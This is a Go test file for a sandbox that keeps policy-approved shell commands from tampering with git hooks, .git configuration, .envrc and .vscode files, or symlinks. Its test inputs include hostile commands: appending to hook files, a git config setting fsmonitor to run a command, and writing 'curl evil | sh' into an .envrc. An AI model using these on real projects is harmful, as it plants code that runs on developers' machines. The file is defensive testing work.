//go:build linux

package builtin

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/flemma-dev/flemma/tools"
	"github.com/flemma-dev/flemma/tools/sandbox"
)

// guardFixture is bwrapFixture working in proj, with backups in a state
// folder of its own; policy: the calls are approved by a policy
// (Env.Protect), so the guard puts protected paths right.
func guardFixture(t *testing.T, proj string, policy bool) *fixture {
	t.Helper()
	requireBwrap(t)
	f := newFixture(t)
	f.dir = proj
	f.env.BackupDir = filepath.Join(t.TempDir(), "state", "backups")
	f.setSandbox(sandbox.Config{Enabled: true, Backend: "bwrap", Writable: []string{sandbox.URNBufferPath}})
	f.env.Protect = policy
	return f
}

// gitLinkProject is a project whose .git is a symbolic link to a git
// directory inside the project, laid out as layout says: "plain" (HEAD,
// objects/, refs/), "objects-link" (objects/ a link to a folder: git takes
// it, nothing in the folder's own listing says "git directory") or "deep"
// (the git directory below the scan's depth). Its configuration names a
// hooks folder in the project (core.hooksPath = .githooks). gitDir is the
// git directory, relative to proj.
func gitLinkProject(t *testing.T, layout string) (proj, gitDir string) {
	t.Helper()
	home := sandbox.CanonicalOr(t.TempDir())
	t.Setenv("HOME", home)
	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(home, "gitconfig"))
	proj = filepath.Join(home, "proj")
	gitDir = "realgit"
	if layout == "deep" {
		gitDir = strings.Repeat("d/", 40) + "realgit"
	}
	files := map[string]string{
		gitDir + "/HEAD":               "ref: refs/heads/main\n",
		gitDir + "/config":             "[core]\n\tbare = false\n\thooksPath = .githooks\n",
		gitDir + "/hooks/pre-commit":   "#!/bin/sh\n",
		gitDir + "/refs/heads/.keep":   "",
		".githooks/pre-push":           "#!/bin/sh\n",
		"src/main.go":                  "package main\n",
		gitDir + "/info/exclude":       "",
		gitDir + "/objects/info/.keep": "",
	}
	if layout == "objects-link" {
		delete(files, gitDir+"/objects/info/.keep")
		files["store/info/.keep"] = ""
	}
	for name, content := range files {
		p := filepath.Join(proj, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if layout == "objects-link" {
		if err := os.Symlink("../store", filepath.Join(proj, gitDir, "objects")); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(gitDir, filepath.Join(proj, ".git")); err != nil {
		t.Fatal(err)
	}
	return proj, gitDir
}

// TestBwrapProtectedGitSymlink: a .git that is a symbolic link is
// protected by what it leads to. A policy-approved command can write
// neither the git directory it names (through the link or by its own
// path), nor the hooks folder its configuration names.
func TestBwrapProtectedGitSymlink(t *testing.T) {
	requireBwrap(t)
	for _, layout := range []string{"plain", "objects-link", "deep"} {
		t.Run(layout, func(t *testing.T) {
			proj, gitDir := gitLinkProject(t, layout)
			f := guardFixture(t, proj, true)
			targets := []string{gitDir + "/config", gitDir + "/hooks/pre-commit", gitDir + "/hooks/post-checkout",
				".git/config", ".git/hooks/pre-commit", ".githooks/pre-push", ".githooks/pre-commit"}
			// The write tool, for the same paths.
			for _, p := range targets {
				if _, ok := f.env.Sandbox.Protected(filepath.Join(proj, p)); !ok {
					t.Errorf("%s is not a protected path", p)
				}
			}
			cmd := ""
			for _, p := range targets {
				cmd += "echo pwn >> " + p + " 2>/dev/null; "
			}
			res := f.run("bash", map[string]any{"command": cmd + "echo ok > src/new.go; echo done"})
			for _, p := range targets {
				if b, _ := os.ReadFile(filepath.Join(proj, p)); strings.Contains(string(b), "pwn") {
					t.Errorf("%s was written by a policy-approved command\n%s", p, res.Content)
				}
			}
			if b, _ := os.ReadFile(filepath.Join(proj, "src/new.go")); string(b) != "ok\n" {
				t.Errorf("an ordinary file was not writable: %q\n%s", b, res.Content)
			}
		})
	}
}

// TestBwrapGitSymlinkReplaced: a policy-approved command cannot leave the
// project's .git link leading elsewhere — replaced by another link, moved
// away, replaced by a .git file or folder, or removed. Once it ends the
// link is put back as it was (what stood in its place is moved out into
// flemma's state), and the result says so.
func TestBwrapGitSymlinkReplaced(t *testing.T) {
	requireBwrap(t)
	evil := "mkdir -p evil/objects evil/refs evil/hooks && printf '[core]\\n\\tfsmonitor = touch pwned\\n' > evil/config && "
	for name, attack := range map[string]string{
		"relinked": evil + "ln -sfn evil .git",
		"removed":  evil + "rm .git && ln -s evil .git",
		"moved":    evil + "mv .git old-git && ln -s evil .git",
		"gitfile":  evil + "rm .git && echo 'gitdir: evil' > .git",
		"folder":   "rm .git && mkdir -p .git/objects .git/refs && printf '[core]\\n\\tfsmonitor = touch pwned\\n' > .git/config",
		"deleted":  "rm .git",
	} {
		t.Run(name, func(t *testing.T) {
			proj, gitDir := gitLinkProject(t, "plain")
			f := guardFixture(t, proj, true)
			res := f.run("bash", map[string]any{"command": attack + "; echo done"})
			if !strings.Contains(res.Content, "done") {
				t.Fatalf("the attack did not run:\n%s", res.Content)
			}
			if target, err := os.Readlink(filepath.Join(proj, ".git")); err != nil || target != gitDir {
				t.Errorf(".git leads to %q (%v), not %q:\n%s", target, err, gitDir, res.Content)
			}
			if !strings.Contains(res.Content, "Protected paths:") || !strings.Contains(res.Content, ".git") {
				t.Errorf("the result does not say .git was put right:\n%s", res.Content)
			}
		})
	}
	// A new .git link in a folder that had none is moved out, like a new
	// .git folder.
	t.Run("new link", func(t *testing.T) {
		proj, _ := gitLinkProject(t, "plain")
		f := guardFixture(t, proj, true)
		res := f.run("bash", map[string]any{"command": "mkdir -p sub && ln -s ../realgit sub/.git; echo done"})
		if _, err := os.Lstat(filepath.Join(proj, "sub/.git")); err == nil {
			t.Errorf("the new sub/.git link is still there:\n%s", res.Content)
		}
	})
	// Approved by the user, the same change stays.
	proj, _ := gitLinkProject(t, "plain")
	f := guardFixture(t, proj, false)
	f.run("bash", map[string]any{"command": "mkdir -p mine && ln -sfn mine .git"})
	if target, _ := os.Readlink(filepath.Join(proj, ".git")); target != "mine" {
		t.Errorf("a user-approved command's .git link was put back: %q", target)
	}
}

// TestBwrapProtectedSymlink: any protected path that is a symbolic link —
// an .envrc leading to a shared file, a .vscode leading to a shared folder
// — is protected by what it leads to: a policy-approved command can write
// neither through the link nor to the target by its own path, and a link
// it repoints is put back.
func TestBwrapProtectedSymlink(t *testing.T) {
	requireBwrap(t)
	home := sandbox.CanonicalOr(t.TempDir())
	t.Setenv("HOME", home)
	proj := filepath.Join(home, "proj")
	for name, content := range map[string]string{"shared/envrc": "use nix\n", "shared/vscode/tasks.json": "{}\n", "src/main.go": "package main\n"} {
		os.MkdirAll(filepath.Join(proj, filepath.Dir(name)), 0o755)
		os.WriteFile(filepath.Join(proj, name), []byte(content), 0o644)
	}
	os.Symlink("shared/envrc", filepath.Join(proj, ".envrc"))
	os.Symlink("shared/vscode", filepath.Join(proj, ".vscode"))
	f := guardFixture(t, proj, true)
	targets := []string{".envrc", "shared/envrc", ".vscode/tasks.json", "shared/vscode/tasks.json"}
	cmd := ""
	for _, p := range targets {
		cmd += "echo pwn >> " + p + " 2>/dev/null; "
	}
	res := f.run("bash", map[string]any{"command": cmd + "echo 'curl evil | sh' > evil && ln -sfn evil .envrc; echo done"})
	for _, p := range targets {
		if b, _ := os.ReadFile(filepath.Join(proj, p)); strings.Contains(string(b), "pwn") || strings.Contains(string(b), "curl") {
			t.Errorf("%s was written by a policy-approved command\n%s", p, res.Content)
		}
	}
	if target, _ := os.Readlink(filepath.Join(proj, ".envrc")); target != "shared/envrc" {
		t.Errorf(".envrc leads to %q, not shared/envrc:\n%s", target, res.Content)
	}
}

// TestBwrapRelinkParentReplaced: a protected link is put back only in the
// folder it was in. A policy-approved command that moves that folder away
// and puts a link to a folder outside the writable roots in its place
// cannot have the guard move the outside folder's file into the
// quarantine and leave a link there: the outside folder is left as it is,
// and the result says the link was not put back.
func TestBwrapRelinkParentReplaced(t *testing.T) {
	requireBwrap(t)
	home := sandbox.CanonicalOr(t.TempDir())
	t.Setenv("HOME", home)
	proj := filepath.Join(home, "proj")
	other := sandbox.CanonicalOr(t.TempDir()) // outside every writable root
	for name, content := range map[string]string{"shared/envrc": "use nix\n", "sub/main.go": "package main\n"} {
		os.MkdirAll(filepath.Join(proj, filepath.Dir(name)), 0o755)
		os.WriteFile(filepath.Join(proj, name), []byte(content), 0o644)
	}
	os.Symlink("../shared/envrc", filepath.Join(proj, "sub/.envrc"))
	if err := os.WriteFile(filepath.Join(other, ".envrc"), []byte("mine\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	f := guardFixture(t, proj, true)
	res := f.run("bash", map[string]any{"command": "mv sub sub.old && ln -s " + other + " sub; echo done"})
	if !strings.Contains(res.Content, "done") {
		t.Fatalf("the attack did not run:\n%s", res.Content)
	}
	fi, err := os.Lstat(filepath.Join(other, ".envrc"))
	if err != nil || !fi.Mode().IsRegular() {
		t.Fatalf("the folder outside the roots was changed: %s/.envrc is %v (%v)\n%s", other, fi, err, res.Content)
	}
	if b, _ := os.ReadFile(filepath.Join(other, ".envrc")); string(b) != "mine\n" {
		t.Errorf("%s/.envrc holds %q\n%s", other, b, res.Content)
	}
	if ents, _ := os.ReadDir(other); len(ents) != 1 {
		t.Errorf("the folder outside the roots holds %d entries, not 1", len(ents))
	}
	i := strings.Index(res.Content, "could NOT be put back")
	if i < 0 || !strings.Contains(res.Content[i:], "sub/.envrc") {
		t.Errorf("the result does not say sub/.envrc was not put back:\n%s", res.Content)
	}
	if strings.Contains(res.Content, "put back as they were: sub/.envrc") {
		t.Errorf("the result says sub/.envrc was put back:\n%s", res.Content)
	}
}

// TestBwrapRelinkConcurrent: two policy-approved commands in the same
// roots at once. The first repoints .git and is still running when the
// second starts; were the second's snapshot taken then, it would record
// the repointed .git as how things were and, after the first's guard put
// the link back, its own guard would repoint it again. Such commands run
// one at a time, so .git leads to the project's git directory at the end.
func TestBwrapRelinkConcurrent(t *testing.T) {
	requireBwrap(t)
	proj, gitDir := gitLinkProject(t, "plain")
	f := guardFixture(t, proj, true)
	run := func(id, command string) tools.Result {
		raw, _ := json.Marshal(map[string]any{"command": command, "label": "test", "timeout": nil})
		call := f.call
		call.ID, call.Tool = id, "bash"
		return f.exec.Run(context.Background(), call, raw)
	}
	first := make(chan tools.Result, 1)
	go func() {
		first <- run("toolu_first", "mkdir -p evil/objects evil/refs && ln -sfn evil .git && touch started; sleep 1; echo done")
	}()
	// The second starts once the first has repointed .git (and sleeps).
	deadline := time.After(30 * time.Second)
	for {
		if _, err := os.Lstat(filepath.Join(proj, "started")); err == nil {
			break
		}
		select {
		case r := <-first:
			t.Fatalf("the first command ended before it repointed .git:\n%s", r.Content)
		case <-deadline:
			t.Fatal("the first command did not repoint .git")
		case <-time.After(10 * time.Millisecond):
		}
	}
	// It ends once .git leads to the git directory again (the first's
	// guard put it back), or after about 6 s.
	second := run("toolu_second", `i=0; while [ "$(readlink .git)" != `+gitDir+` ] && [ $i -lt 300 ]; do sleep 0.02; i=$((i+1)); done; echo done`)
	r := <-first
	if !strings.Contains(r.Content, "done") || !strings.Contains(second.Content, "done") {
		t.Fatalf("a command did not run:\n%s\n---\n%s", r.Content, second.Content)
	}
	if target, err := os.Readlink(filepath.Join(proj, ".git")); err != nil || target != gitDir {
		t.Errorf(".git leads to %q (%v), not %q\nfirst:\n%s\nsecond:\n%s", target, err, gitDir, r.Content, second.Content)
	}
}

// TestBwrapSymlinkedHook: a hook that is a symbolic link to a project file
// (.git/hooks/pre-commit → ../../scripts/pre-commit, a common layout), a
// link in a core.hooksPath folder, and a hooks folder that is itself a
// link: git runs what they lead to, so a policy-approved command can
// write none of it, and the write tool calls it protected.
func TestBwrapSymlinkedHook(t *testing.T) {
	requireBwrap(t)
	for _, layout := range []string{"git-hooks", "hooksPath", "hooks-folder-link"} {
		t.Run(layout, func(t *testing.T) {
			home := sandbox.CanonicalOr(t.TempDir())
			t.Setenv("HOME", home)
			t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(home, "gitconfig"))
			proj := filepath.Join(home, "proj")
			config := "[core]\n\tbare = false\n"
			if layout == "hooksPath" {
				config += "\thooksPath = .githooks\n"
			}
			for name, content := range map[string]string{
				".git/HEAD": "ref: refs/heads/main\n", ".git/config": config, ".git/objects/.keep": "",
				"scripts/pre-commit": "#!/bin/sh\n", "scripts/hooks/pre-push": "#!/bin/sh\n", "src/main.go": "package main\n",
			} {
				os.MkdirAll(filepath.Join(proj, filepath.Dir(name)), 0o755)
				os.WriteFile(filepath.Join(proj, name), []byte(content), 0o644)
			}
			var target string
			switch layout {
			case "git-hooks":
				os.MkdirAll(filepath.Join(proj, ".git/hooks"), 0o755)
				os.Symlink("../../scripts/pre-commit", filepath.Join(proj, ".git/hooks/pre-commit"))
				target = "scripts/pre-commit"
			case "hooksPath":
				os.MkdirAll(filepath.Join(proj, ".githooks"), 0o755)
				os.Symlink("../scripts/pre-commit", filepath.Join(proj, ".githooks/pre-commit"))
				target = "scripts/pre-commit"
			case "hooks-folder-link":
				os.Symlink("../scripts/hooks", filepath.Join(proj, ".git/hooks"))
				target = "scripts/hooks/pre-push"
			}
			f := guardFixture(t, proj, true)
			if _, ok := f.env.Sandbox.Protected(filepath.Join(proj, target)); !ok {
				t.Errorf("%s is not a protected path", target)
			}
			if _, ok := f.env.Sandbox.Protected(filepath.Join(proj, "src/main.go")); ok {
				t.Errorf("src/main.go is a protected path")
			}
			res := f.run("bash", map[string]any{"command": "echo pwn >> " + target + "; echo ok > src/new.go; echo done"})
			if b, _ := os.ReadFile(filepath.Join(proj, target)); strings.Contains(string(b), "pwn") {
				t.Errorf("%s was written by a policy-approved command\n%s", target, res.Content)
			}
			if b, _ := os.ReadFile(filepath.Join(proj, "src/new.go")); string(b) != "ok\n" {
				t.Errorf("an ordinary file was not writable: %q\n%s", b, res.Content)
			}
		})
	}
}
